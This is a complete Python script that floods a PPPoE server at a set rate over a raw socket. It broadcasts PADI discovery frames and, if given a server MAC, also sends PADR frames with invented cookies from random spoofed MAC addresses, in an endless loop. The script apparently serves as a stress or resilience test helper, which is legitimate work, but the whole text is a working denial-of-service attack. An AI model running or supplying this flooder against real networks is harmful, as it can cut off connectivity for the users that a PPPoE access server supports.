"""Floods a PPPoE server: flood.py DEVICE RATE [SERVER].

Sends RATE frames per second: PADI from one MAC address. With the server's MAC address, sends PADI, and PADR with invented
cookies, from random MAC addresses. Prints `flooding` when it begins.
"""
import os
import socket
import struct
import sys
import time

DISCOVERY = 0x8863
PADI, PADR = 0x09, 0x19
SERVICE_NAME, HOST_UNIQ, AC_COOKIE = 0x0101, 0x0103, 0x0104
BROADCAST = b"\xff" * 6


def tag(kind, value):
    return struct.pack(">HH", kind, len(value)) + value


def frame(to, source, code):
    tags = tag(SERVICE_NAME, b"") + tag(HOST_UNIQ, os.urandom(8))
    if code == PADR:
        tags += tag(AC_COOKIE, os.urandom(32))
    header = struct.pack(">BBHH", 0x11, code, 0, len(tags))
    return to + source + struct.pack(">H", DISCOVERY) + header + tags


def frames(server):
    if server is None:
        return [frame(BROADCAST, b"\x02\x00\x00\x00\x66\x66", PADI)]
    both = [(BROADCAST, PADI), (bytes.fromhex(server.replace(":", "")), PADR)]
    each = [both[at % 2] for at in range(20000)]
    return [frame(to, b"\x06" + os.urandom(5), code) for to, code in each]


def main():
    device, rate = sys.argv[1], int(sys.argv[2])
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind((device, 0))
    all_frames = frames(sys.argv[3] if len(sys.argv) > 3 else None)
    print("flooding", flush=True)
    begin, sent = time.monotonic(), 0
    while True:
        while sent < (time.monotonic() - begin) * rate:
            try:
                raw.send(all_frames[sent % len(all_frames)])
            except OSError:
                pass
            sent += 1
        time.sleep(0.002)


main()
